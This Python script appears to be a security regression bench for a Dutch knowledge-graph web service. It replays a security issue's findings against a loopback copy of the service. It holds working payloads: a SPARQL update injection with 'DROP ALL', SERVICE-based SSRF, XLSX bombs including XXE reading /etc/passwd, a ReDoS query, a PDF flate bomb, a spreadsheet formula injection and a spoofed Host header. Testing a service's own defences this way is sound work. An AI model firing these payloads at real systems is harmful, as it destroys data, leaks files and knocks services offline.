"""Bounded attack replay of issue 11 on loopback. Starts the service on a copy of a built data directory
(writes allowed with a random token), or targets a running one (--url, --token), replays each category
of the issue a bounded number of times and prints one table: requests, 4xx, 5xx (must be 0), requests
without an answer, worst /healthz latency while the category ran (target ≤ 1 s), peak memory of the
service (its process and its children) and what was seen. Stops by itself (--seconds).

    .venv/bin/python bench/attack.py [--data-dir data] [--seconds 900]
    .venv/bin/python bench/attack.py --url http://127.0.0.1:8000 --token <schrijftoken> [--pid <pid van de dienst>]
"""

from __future__ import annotations

import argparse
import io
import os
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import httpx
from openpyxl import Workbook

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from bench.common import ROOT, table  # noqa: E402

TIMEOUT = 60.0  # one request
NOTE = "aanvalstest issue 11"


@dataclass
class Tally:
    category: str
    statuses: list[int] = field(default_factory=list)  # 0 = no answer (timeout, connection refused)
    worst_health: float = 0.0
    peak_rss: int = 0
    notes: list[str] = field(default_factory=list)

    def row(self) -> list[str]:
        count = lambda low, high: sum(low <= s < high for s in self.statuses)  # noqa: E731
        return [self.category, str(len(self.statuses)), str(count(400, 500)), str(count(500, 600)), str(self.statuses.count(0)),
                f"{self.worst_health:.2f}", f"{self.peak_rss / 2**20:,.0f}", "; ".join(self.notes)]


class Target:
    """The service under attack, a client for it and two watchers: /healthz latency and peak RSS."""

    def __init__(self, url: str, token: str, pid: int | None) -> None:
        self.url, self.pid = url, pid
        self.auth = {"Authorization": f"Bearer {token}"}
        self.client = httpx.Client(base_url=url, timeout=TIMEOUT, limits=httpx.Limits(max_connections=64))
        # a second client: another loopback address, as the service tells clients apart by address
        self.other_client = httpx.Client(base_url=url, timeout=TIMEOUT, transport=httpx.HTTPTransport(local_address="127.0.0.2"))
        self.current: Tally | None = None
        self._stop = threading.Event()
        self._watchers = [threading.Thread(target=self._watch_health, daemon=True), threading.Thread(target=self._watch_rss, daemon=True)]
        for watcher in self._watchers:
            watcher.start()

    def request(self, method: str, path: str, *, other: bool = False, **kwargs: object) -> httpx.Response | None:
        """``other``: as the second client."""
        try:
            response = (self.other_client if other else self.client).request(method, path, **kwargs)  # type: ignore[arg-type]
            status = response.status_code
        except httpx.HTTPError:
            response, status = None, 0
        if self.current is not None:
            self.current.statuses.append(status)
        return response

    def triples(self) -> int | None:
        try:
            return httpx.get(self.url + "/healthz", timeout=TIMEOUT).json().get("triples")
        except (httpx.HTTPError, ValueError):
            return None

    def _watch_health(self) -> None:
        with httpx.Client(timeout=30.0) as probe:
            while not self._stop.is_set():
                started = time.perf_counter()
                try:
                    probe.get(self.url + "/healthz")
                except httpx.HTTPError:
                    pass
                elapsed = time.perf_counter() - started
                if self.current is not None:
                    self.current.worst_health = max(self.current.worst_health, elapsed)
                self._stop.wait(0.25)

    def _watch_rss(self) -> None:
        while self.pid and not self._stop.is_set():
            rss = tree_rss(self.pid)
            if self.current is not None:
                self.current.peak_rss = max(self.current.peak_rss, rss)
            self._stop.wait(0.1)

    @contextmanager
    def category(self, name: str, tallies: list[Tally]) -> Iterator[Tally]:
        tally = Tally(name)
        tallies.append(tally)
        self.current = tally
        print(f"  {name} …", file=sys.stderr, flush=True)
        try:
            yield tally
        except Exception as error:  # noqa: BLE001 - one broken category must not stop the others
            tally.notes.append(f"aanval zelf faalde: {type(error).__name__}: {error}")
        finally:
            time.sleep(0.5)  # let the watchers see the tail
            self.current = None

    def close(self) -> None:
        self._stop.set()
        self.client.close()
        self.other_client.close()


def tree_rss(pid: int) -> int:
    """Resident bytes of a process and all its descendants (the SPARQL worker is a child)."""
    total, todo = 0, [pid]
    while todo:
        current = todo.pop()
        try:
            status = Path(f"/proc/{current}/status").read_text()
            total += int(next(line.split()[1] for line in status.splitlines() if line.startswith("VmRSS:"))) * 1024
            for task in Path(f"/proc/{current}/task").iterdir():
                todo += [int(child) for child in (task / "children").read_text().split()]
        except (OSError, StopIteration, ValueError):
            continue
    return total


def parallel(count: int, call: Callable[[int], object]) -> list[object]:
    with ThreadPoolExecutor(count) as pool:
        return list(pool.map(call, range(count)))


# --- the categories -----------------------------------------------------------------------------------------

def update_injection(target: Target, tally: Tally) -> None:
    """A literal whose datatype IRI decodes to '> } } ; DROP ALL ; INSERT DATA {…' (critical finding 1)."""
    before = target.triples()
    escaped = lambda text: "".join(f"\\u{ord(c):04X}" if c in " <>{}\"" else c for c in text)  # noqa: E731
    payloads = [
        "http://x.nl/t> } } ; DROP ALL ; INSERT DATA { GRAPH <urn:x:g> { <urn:x:s> <urn:x:p> <urn:x:o",
        "http://x.nl/t> } } ; DROP ALL ; #",
        "http://x.nl/t> } } ; LOAD <http://127.0.0.1:9/> ; INSERT DATA { GRAPH <urn:x:g> { <urn:x:s> <urn:x:p> <urn:x:o",
    ]
    for payload in payloads:
        body = (f'<https://kg.gezond-groningen.nl/id/organisatie/menzis> <http://www.w3.org/2004/02/skos/core#altLabel> '
                f'"x"^^<{escaped(payload)}> .')
        target.request("POST", "/api/triples", params={"toelichting": NOTE}, content=body.encode(),
                       headers={**target.auth, "content-type": "text/turtle"})
    subject = "<https://kg.gezond-groningen.nl/id/organisatie/x> " + "{" * 9000
    target.request("POST", "/api/triples", params={"toelichting": NOTE}, content=subject.encode(),
                   headers={**target.auth, "content-type": "text/turtle"})
    after = target.triples()
    tally.notes.append(f"triples {before} → {after}" + (" (store AANGETAST)" if before and after and after < before else ""))


class _Listener(BaseHTTPRequestHandler):
    hits = 0

    def do_GET(self) -> None:  # noqa: N802
        _Listener.hits += 1
        body = b'{"head":{"vars":["geheim"]},"results":{"bindings":[{"geheim":{"type":"literal","value":"lokaal-geheim"}}]}}'
        self.send_response(200)
        self.send_header("content-type", "application/sparql-results+json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET  # noqa: N815

    def log_message(self, *args: object) -> None:
        pass


def service_ssrf(target: Target, tally: Tally) -> None:
    """SERVICE <http://127.0.0.1:…> to a listener this script starts (high finding 2)."""
    server = HTTPServer(("127.0.0.1", 0), _Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        endpoint = f"http://127.0.0.1:{server.server_address[1]}/sparql"
        leaked = 0
        for query in (f"SELECT * WHERE {{ SERVICE <{endpoint}> {{ ?s ?p ?o }} }}",
                      f"SELECT * WHERE {{ SERVICE SILENT <{endpoint}> {{ ?s ?p ?o }} }}",
                      f"select * where {{ service <{endpoint}> {{ ?geheim ?p ?o }} }}"):
            response = target.request("GET", "/sparql", params={"query": query}, headers={"accept": "application/sparql-results+json"})
            leaked += response is not None and "lokaal-geheim" in response.text
        tally.notes.append(f"luisteraar bereikt: {_Listener.hits}×, gegevens terug: {leaked}×")
    finally:
        server.shutdown()


def xlsx_with_sheet(sheet_xml: str | bytes) -> bytes:
    """A real workbook from openpyxl with its first sheet's XML replaced (also used by the tests)."""
    raw = sheet_xml.encode() if isinstance(sheet_xml, str) else sheet_xml
    workbook = Workbook()
    workbook.active.title = "organisaties"
    buffer = io.BytesIO()
    workbook.save(buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as result:
        for member in source.infolist():
            result.writestr(member.filename, raw if member.filename == "xl/worksheets/sheet1.xml" else source.read(member))
    return out.getvalue()


def _sheet(rows: str, prolog: str = "", dimension: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
            f'2006/main">{dimension}<sheetData>{rows}</sheetData></worksheet>').encode()


HEADER = '<row r="1"><c r="A1" t="inlineStr"><is><t>naam</t></is></c><c r="B1" t="inlineStr"><is><t>type</t></is></c></row>'


def xlsx_bomb(target: Target, tally: Tally) -> None:
    """Empty rows, a padded dimension, a deflate bomb, billion laughs and XXE (high finding 3)."""
    bombs = {
        "lege rijen": _sheet(HEADER + "<row/>" * 2_000_000),
        "dimensie": _sheet(HEADER + '<row r="400000"/>', dimension='<dimension ref="A1:CV400000"/>'),
        "uitpakken": _sheet(HEADER + " " * 200_000_000),
        "billion laughs": _sheet(HEADER.replace("<t>naam</t>", "<t>&l4;</t>"), '<!DOCTYPE l [<!ENTITY l0 "ha">'
                                 + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 5)) + "]>"),
        "XXE": _sheet(HEADER.replace("<t>naam</t>", "<t>&x;</t>"), '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    }
    for name, sheet in bombs.items():
        started = time.perf_counter()
        response = target.request("POST", "/api/import", headers=target.auth, files={"bestand": ("bom.xlsx", xlsx_with_sheet(sheet))},
                                  data={"toelichting": NOTE})
        tally.notes.append(f"{name}: {response.status_code if response is not None else 'geen antwoord'} "
                           f"in {time.perf_counter() - started:.1f} s")


def redos_prefix(target: Target, tally: Tally) -> None:
    """20,000-character PREFIX a:<<<… queries in parallel (medium finding 4)."""
    query = "PREFIX a:" + "<" * 19_980 + " SELECT * WHERE { ?s ?p ?o }"
    parallel(10, lambda _: target.request("POST", "/sparql", content=query.encode(), headers={"content-type": "application/sparql-query"}))


SLOW = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"


def slow_queries(target: Target, tally: Tally) -> None:
    """Five slow queries of one client at once, then another client's ASK {} (medium finding 5)."""
    with ThreadPoolExecutor(5) as pool:
        pending = [pool.submit(target.request, "GET", "/sparql", params={"query": SLOW}) for _ in range(5)]
        time.sleep(1.0)
        started = time.perf_counter()
        answer = target.request("GET", "/sparql", params={"query": "ASK {}"}, other=True)
        tally.notes.append(f"ASK {{}} van een andere vrager achter 5 trage query's: {time.perf_counter() - started:.1f} s "
                           f"({answer.status_code if answer is not None else 'geen antwoord'})")
        for future in pending:
            future.result()


def write_during_query(target: Target, tally: Tally) -> None:
    """SPARQL reads while organisations are written (medium finding 6)."""
    query = "SELECT ?s ?p ?o WHERE { ?s ?p ?o } LIMIT 2000"
    stop = time.monotonic() + 20

    def read(_: int) -> None:
        while time.monotonic() < stop:
            target.request("GET", "/sparql", params={"query": query})

    def write(number: int) -> None:
        for step in range(3):
            target.request("POST", "/api/organisaties", headers=target.auth,
                           json={"naam": f"Stichting Schrijftest {number}-{step}", "type": "welzijn", "toelichting": NOTE})

    with ThreadPoolExecutor(12) as pool:
        futures = [pool.submit(read, i) for i in range(8)] + [pool.submit(write, i) for i in range(4)]
        for future in futures:
            future.result()


def formula_injection(target: Target, tally: Tally) -> None:
    """A programme named like a formula, then the CSV exports (finding 7)."""
    name = '=HYPERLINK("http://127.0.0.1/x";"klik") aanvalsprogramma'
    target.request("POST", "/api/programmas", headers=target.auth, json={"naam": name, "actielijnen": [2], "toelichting": NOTE})
    unescaped = 0
    for path in ("/lacunes.csv", "/overlaps.csv", "/api/export/organisaties.csv", "/api/export/betrokkenheden.csv"):
        response = target.request("GET", path)
        if response is not None:
            cells = [cell.strip('"') for line in response.text.splitlines() for cell in line.replace(";", ",").split(",")]
            unescaped += sum(cell.startswith(("=", "@", "+")) for cell in cells)
    tally.notes.append(f"onbeschermde formulecellen: {unescaped}")


def upload_races(target: Target, tally: Tally) -> None:
    """Ten simultaneous uploads of one name, six of one organisation (finding 8)."""
    uploads = parallel(10, lambda i: target.request(
        "POST", "/api/documenten", headers=target.auth, data={"toelichting": NOTE},
        files={"bestand": ("wedloop.txt", f"Versie {i}: Stichting Welzijn Oldambt werkt aan Welzijn op Recept.\n".encode())}))
    organisations = parallel(6, lambda _: target.request(
        "POST", "/api/organisaties", headers=target.auth, json={"naam": "Stichting Wedloop", "type": "welzijn", "toelichting": NOTE}))
    created = lambda responses: sum(r is not None and r.status_code == 201 for r in responses)  # noqa: E731
    tally.notes.append(f"201 bij uploads: {created(uploads)}/10, bij organisaties: {created(organisations)}/6")


def long_names(target: Target, tally: Tally) -> None:
    """File names of 250–1000 characters (finding 9)."""
    for length in (250, 256, 300, 1000):
        target.request("POST", "/api/documenten", headers=target.auth, data={"toelichting": NOTE},
                       files={"bestand": ("a" * length + ".txt", b"Tekst over Welzijn op Recept.\n")})


def flate_bomb_pdf(decompressed: int) -> bytes:
    stream = zlib.compress(b"0" * decompressed, 9)
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
               b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream"]
    return pdf_of(objects)


def pdf_of(objects: list[bytes]) -> bytes:
    """A PDF file of ``objects`` (numbered from 1; object 1 is the catalogue), written directly."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pdf_bomb(target: Target, tally: Tally) -> None:
    """A PDF whose content stream inflates to 100 MB (finding 9)."""
    bomb = flate_bomb_pdf(100_000_000)
    response = target.request("POST", "/api/documenten", headers=target.auth, data={"toelichting": NOTE},
                              files={"bestand": ("bom.pdf", bomb)})
    tally.notes.append(f"{len(bomb):,} bytes → {response.status_code if response is not None else 'geen antwoord'}")


def cache_busting(target: Target, tally: Tally) -> None:
    """/overlaps.json?min_score=0.301, 0.302, … (finding 10; owned by the analyses work)."""
    started = time.perf_counter()
    for step in range(1, 25):
        target.request("GET", "/overlaps.json", params={"min_score": f"{0.3 + step / 1000:.3f}"})
    tally.notes.append(f"24 verzoeken in {time.perf_counter() - started:.1f} s")


def header_checks(target: Target, tally: Tally) -> None:
    """Security headers, Host reflection in redirects, Swagger UI from a CDN, internal names in errors (finding 11)."""
    wanted = ("content-security-policy", "x-content-type-options", "x-frame-options", "referrer-policy")
    missing: set[str] = set()
    for path in ("/", "/netwerk", "/docs", "/healthz", "/api/organisaties", "/bestaat-niet"):
        response = target.request("GET", path)
        if response is not None:
            missing |= {name for name in wanted if name not in response.headers}
    redirect = target.request("GET", "/zoeken/", params={"q": "x"}, headers={"host": "aanvaller.example"}, follow_redirects=False)
    reflected = redirect is not None and "aanvaller.example" in redirect.headers.get("location", "")
    docs = target.request("GET", "/docs")
    cdn = docs is not None and "cdn." in docs.text
    error = target.request("GET", "/sparql", params={"query": "SELECT * WHERE { ?s ?p"})
    internal = error is not None and any(name in error.text for name in ("Error", "Exception", "Traceback", "pyoxigraph"))
    tally.notes.append(f"ontbrekend: {', '.join(sorted(missing)) or 'niets'}; Host in redirect: {'ja' if reflected else 'nee'}; "
                       f"CDN in /docs: {'ja' if cdn else 'nee'}; interne namen in fout: {'ja' if internal else 'nee'}")


CATEGORIES: list[tuple[str, Callable[[Target, Tally], None]]] = [
    ("XLSX-bom", xlsx_bomb), ("ReDoS PREFIX", redos_prefix), ("trage query's", slow_queries),
    ("schrijven tijdens query", write_during_query), ("formule-injectie", formula_injection), ("wedloop uploads", upload_races),
    ("lange bestandsnamen", long_names), ("PDF-flatebom", pdf_bomb), ("cache busting", cache_busting),
    ("SERVICE-SSRF", service_ssrf), ("headers", header_checks), ("update-injectie", update_injection),
]


# --- running -------------------------------------------------------------------------------------------------

@contextmanager
def started_service(data_dir: Path, token: str) -> Iterator[tuple[str, int]]:
    """The service on a copy of ``data_dir`` (store and search index) on a free loopback port."""
    with tempfile.TemporaryDirectory(prefix="gezond-kg-aanval-") as scratch:
        copy = Path(scratch) / "kg"
        shutil.copytree(data_dir, copy, ignore=shutil.ignore_patterns("LOCK", "documenten"))
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            port = probe.getsockname()[1]
        log = open(Path(scratch) / "dienst.log", "wb")  # noqa: SIM115
        server = subprocess.Popen([str(Path(sys.executable).parent / "gezond-kg"), "serve", "--port", str(port), "--data-dir", str(copy)],
                                  stdout=log, stderr=subprocess.STDOUT, env={**os.environ, "GEZOND_KG_WRITE_TOKENS": f"aanval={token}"})
        url = f"http://127.0.0.1:{port}"
        try:
            for _ in range(240):
                try:
                    httpx.get(url + "/healthz", timeout=2)
                    break
                except httpx.HTTPError:
                    if server.poll() is not None:
                        raise SystemExit("de dienst startte niet: " + (Path(scratch) / "dienst.log").read_text(errors="replace")) from None
                    time.sleep(0.5)
            yield url, server.pid
        finally:
            server.terminate()
            try:
                server.wait(timeout=30)
            except subprocess.TimeoutExpired:
                server.kill()
                server.wait()
            log.close()


def attack(url: str, token: str, pid: int | None, seconds: float, only: set[str]) -> list[Tally]:
    target = Target(url, token, pid)
    deadline = time.monotonic() + seconds
    tallies: list[Tally] = []
    try:
        target.request("GET", "/api/search", params={"q": "valpreventie"})  # warm up: model and index
        target.request("GET", "/sparql", params={"query": "ASK {}"})
        for name, run in CATEGORIES:
            if only and name not in only:
                continue
            if time.monotonic() > deadline:
                tallies.append(Tally(name, notes=["overgeslagen: tijd op"]))
                continue
            with target.category(name, tallies) as tally:
                run(target, tally)
    finally:
        target.close()
    return tallies


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--data-dir", type=Path, default=ROOT / "data", help="gebouwde datamap; er wordt een kopie aangevallen")
    parser.add_argument("--url", default="", help="een draaiende dienst aanvallen in plaats van er een te starten (alleen loopback)")
    parser.add_argument("--token", default="", help="schrijftoken van die dienst")
    parser.add_argument("--pid", type=int, default=None, help="proces-id van die dienst, voor het geheugen")
    parser.add_argument("--seconds", type=float, default=900.0, help="na zoveel seconden worden geen categorieën meer gestart")
    parser.add_argument("--only", default="", help="alleen deze categorieën, komma-gescheiden")
    args = parser.parse_args()
    only = {name.strip() for name in args.only.split(",") if name.strip()}
    started = time.perf_counter()
    if args.url:
        if not args.url.startswith(("http://127.0.0.1", "http://localhost", "http://[::1]")):
            raise SystemExit("alleen een dienst op loopback aanvallen")
        tallies = attack(args.url.rstrip("/"), args.token, args.pid, args.seconds, only)
    else:
        token = secrets.token_urlsafe(16)
        with started_service(args.data_dir, token) as (url, pid):
            tallies = attack(url, token, pid, args.seconds, only)
    print(table([tally.row() for tally in tallies],
                ["categorie", "verzoeken", "4xx", "5xx", "geen antwoord", "slechtste /healthz s", "piek MiB", "gezien"]))
    print(f"\n{sum(len(t.statuses) for t in tallies)} verzoeken in {time.perf_counter() - started:.0f} s")


if __name__ == "__main__":
    main()
